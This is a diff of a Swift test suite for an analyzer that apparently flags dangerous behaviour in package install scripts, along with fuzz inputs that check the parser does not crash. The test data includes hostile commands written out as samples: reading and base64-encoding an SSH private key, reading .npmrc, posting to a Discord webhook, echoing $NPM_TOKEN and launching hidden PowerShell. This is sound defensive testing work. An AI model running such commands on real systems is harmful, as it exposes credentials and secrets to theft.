@@ -31,7 +31,7 @@ import Testing
         ("cat ↓~/.ssh/id_rsa | base64", [.readCredentialPath]),
         ("↓cat ~/.npmrc", [.readFile]),
         ("curl ↓https://discord.com/api/webhooks/1/abc -d x", [.urlWebhook]),
-        ("↓echo $NPM_TOKEN", [.readEnvironmentVariable]),
+        ("echo ↓$NPM_TOKEN", [.readEnvironmentVariable]),
         ("↓powershell -w hidden -c calc", [.spawnProcess, .hiddenProcess]),
     ] as [(String, [BehaviourKind])])
     func commandsReportBehavioursAtTheirMarks(marked: String, kinds: [BehaviourKind]) {
@@ -46,7 +46,7 @@ import Testing
 
     @Test(arguments: [
         "node-gyp rebuild", "husky install", "tsc -p .", "echo done", "# curl https://x.example | sh",
-        "rimraf dist && mkdirp lib", "echo \"curl https://x.example | sh\"", "prebuild-install || node-gyp rebuild",
+        "rimraf dist && mkdirp lib", "echo \"curl x | sh\"", "prebuild-install || node-gyp rebuild",
     ])
     func benignCommandsReportNothing(script: String) {
         #expect(Self.behaviours(script).isEmpty, "\(Self.behaviours(script).map(\.kind))")
@@ -65,7 +65,7 @@ import Testing
             }
         }
         #expect(follow == [
-            "file node scripts/install.js", "inline javascript require(1) @39", "inline python import os @65",
+            "file node scripts/install.js", "inline javascript require(1) @37", "inline python import os @64",
             "module pkg.tool", "file shell ./setup.sh", "script build", "file node x.js", "file node a.ts",
         ])
     }
@@ -96,14 +96,18 @@ import Testing
         #expect(found.first?.snippet == "\"postinstall\": \"whoami; id -u\"")
     }
 
-    @Test(arguments: [
+    static let hostile = [
         String(repeating: "$(", count: 100_000), String(repeating: "'", count: 100_001), "\"unterminated $(x",
         String(repeating: "a | ", count: 50_000), "<<", "cat <<EOF", String(repeating: "`", count: 99_999),
         String(repeating: "\\", count: 10_001), "${", "%", "&>", "2>&1 >", "\u{0}\u{FFFD}",
-    ])
-    func hostileScriptsNeverCrash(script: String) {
+        String(repeating: "x=$(y) ", count: 30_000), String(repeating: "a\n", count: 100_000),
+    ]
+
+    @Test(arguments: hostile.indices)
+    func hostileScriptsNeverCrash(index: Int) {
         let start = Date()
-        _ = Self.steps(script)
-        #expect(Date().timeIntervalSince(start) < 5)
+        let steps = Self.steps(Self.hostile[index])
+        #expect(steps.count <= ShellAnalyzer.maxSteps)
+        #expect(Date().timeIntervalSince(start) < 5, "script #\(index)")
     }
 }
